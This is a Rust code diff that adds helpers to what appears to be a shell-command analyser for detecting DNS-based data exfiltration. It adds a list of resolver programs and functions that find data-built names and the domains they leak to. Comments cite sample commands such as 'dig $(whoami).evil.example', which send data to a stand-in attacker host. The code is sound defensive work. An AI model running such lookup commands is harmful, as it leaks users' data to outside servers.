@@ -860,6 +860,68 @@ pub fn socket_host(c: &Command) -> Option<String> {
     (!name.is_empty()).then(|| canonical_address(name).unwrap_or_else(|| name.to_ascii_lowercase()))
 }
 
+/// Programs that look up a name they are given in DNS (`dig`, `host`, `ping`…): a name built
+/// from data (`dig $(whoami).evil.example`) carries that data to the servers of its zone.
+pub const RESOLVERS: &[&str] = &[
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "delv",
+    "kdig",
+    "resolvectl",
+    "getent",
+    "ping",
+    "ping6",
+];
+
+/// True when `program` looks up the names it is given (`RESOLVERS`).
+pub fn is_resolver(program: &str) -> bool {
+    RESOLVERS.contains(&program)
+}
+
+/// The words command `c` looks up as names, when it is a resolver: its operands, less a
+/// server (`@8.8.8.8`) and query options (`+short`); `getent` only for a hosts database.
+pub fn looked_up_names(c: &Command) -> Vec<&Word> {
+    if !is_resolver(&c.program) {
+        return Vec::new();
+    }
+    let ops = c.operands();
+    if c.program == "getent" {
+        return match ops.split_first() {
+            Some((db, names)) if db.text.starts_with("hosts") || db.text.starts_with("ahosts") => {
+                names.to_vec()
+            }
+            _ => Vec::new(),
+        };
+    }
+    ops.into_iter()
+        .filter(|w| !w.text.starts_with(['@', '+']))
+        .collect()
+}
+
+/// The literal domain a name built from data ends in (`$(whoami).evil.example`,
+/// `${K}.x.evil.example`, `$USER.evil.example`, xargs' `{}.evil.example`): where the data
+/// goes. `None` for a name known statically, a name that is all data (`$DOMAIN`), or one
+/// whose ending is not a literal domain of two labels or more.
+pub fn data_name_domain(w: &Word) -> Option<String> {
+    if !w.dynamic {
+        return None;
+    }
+    let t = w.text.as_str();
+    let last_dynamic = t.rfind([')', '}', '`']).or_else(|| {
+        // `$VAR.evil.example`: the variable name ends at the first dot.
+        t.find('$')
+            .map(|i| i + t[i..].find('.').unwrap_or(t.len() - i))
+    })?;
+    let rest = t
+        .get(last_dynamic..)?
+        .trim_start_matches([')', '}', '`', '"']);
+    let domain = rest.strip_prefix('.')?;
+    (domain.contains('.') && !domain.contains('$'))
+        .then(|| domain.trim_end_matches('.').to_ascii_lowercase())
+}
+
 /// Loopback names and addresses.
 pub fn is_local_host(h: &str) -> bool {
     h == "localhost"
